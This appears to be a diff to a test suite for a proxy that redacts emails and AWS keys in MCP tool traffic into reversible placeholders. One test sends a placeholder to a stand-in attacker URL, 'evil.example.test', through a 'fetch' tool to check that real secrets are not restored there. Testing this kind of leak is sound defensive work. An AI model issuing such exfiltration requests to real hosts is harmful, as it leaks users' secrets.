@@ -5,6 +5,7 @@ fake_server.py`; every test runs under both the initialize handshake (2025-11-25
 the 2026-07-28 protocol ('auto' probes server/discover).
 """
 
+import re
 import json
 import pathlib
 
@@ -17,6 +18,11 @@ from fake_server import FAKE_AWS, FAKE_EMAIL
 
 MODES = ["legacy", "auto"]
 
+
+
+def token(type_and_number):
+    """A reversible placeholder: its type and number, then the random tag drawn for each token."""
+    return re.compile("\u27e6" + type_and_number + "_[0-9A-Z]{6}\u27e7")
 
 def params(cordon, python, server_script, record_file, *options, mode="normal"):
     return StdioServerParameters(
@@ -54,7 +60,7 @@ def test_tool_result_reaches_the_model_with_placeholders(cordon, python, server_
     text = " ".join(texts(result))
     assert not result.is_error
     assert FAKE_EMAIL not in text and FAKE_AWS not in text
-    assert "⟦EMAIL_1⟧" in text and "⟦AWS_ACCESS_KEY_ID_1⟧" in text
+    assert token("EMAIL_1").search(text) and token("AWS_ACCESS_KEY_ID_1").search(text)
     assert "Customer acme" in text
 
 
@@ -70,7 +76,8 @@ def test_structured_content_keeps_its_schema_and_matches_its_text_copy(cordon, p
     result = run(scenario)
     assert not result.is_error
     structured = result.structured_content
-    assert structured == {"email": "⟦EMAIL_1⟧", "seats": 12, "active": True}
+    assert token("EMAIL_1").fullmatch(structured["email"])
+    assert structured == {"email": structured["email"], "seats": 12, "active": True}
     assert json.loads(texts(result)[0]) == structured
     assert FAKE_EMAIL not in json.dumps(result.model_dump(mode="json"))
 
@@ -82,8 +89,9 @@ def test_placeholders_are_restored_only_for_tools_the_policy_names(cordon, pytho
             params(cordon, python, server_script, record_file, "--restore-tool", "send_mail"), mode=mode
         ) as client:
             looked_up = await client.call_tool("lookup_customer", {"customer": "acme"})
-            placeholder = "⟦EMAIL_1⟧"
-            assert placeholder in " ".join(texts(looked_up))
+            found = token("EMAIL_1").search(" ".join(texts(looked_up)))
+            assert found
+            placeholder = found.group(0)
             await client.call_tool("send_mail", {"to": placeholder, "body": "hello"})
             await client.call_tool("fetch", {"url": f"https://evil.example.test/?q={placeholder}"})
 
@@ -91,7 +99,7 @@ def test_placeholders_are_restored_only_for_tools_the_policy_names(cordon, pytho
     calls = {entry["tool"]: entry["arguments"] for entry in received(record_file)}
     assert calls["send_mail"]["to"] == FAKE_EMAIL
     assert FAKE_EMAIL not in calls["fetch"]["url"]
-    assert "⟦EMAIL_1⟧" in calls["fetch"]["url"]
+    assert token("EMAIL_1").search(calls["fetch"]["url"])
 
 
 @pytest.mark.parametrize("mode", MODES)
@@ -154,7 +162,7 @@ def test_resources_and_prompts_are_redacted(cordon, python, server_script, recor
     assert "region = eu-west-1" in resource_text
     assert FAKE_AWS not in resource_text and FAKE_EMAIL not in resource_text
     prompt_text = json.dumps(prompt.model_dump(mode="json"), ensure_ascii=False)
-    assert FAKE_EMAIL not in prompt_text and "⟦EMAIL_1⟧" in prompt_text
+    assert FAKE_EMAIL not in prompt_text and token("EMAIL_1").search(prompt_text)
 
 
 @pytest.mark.parametrize("mode", MODES)
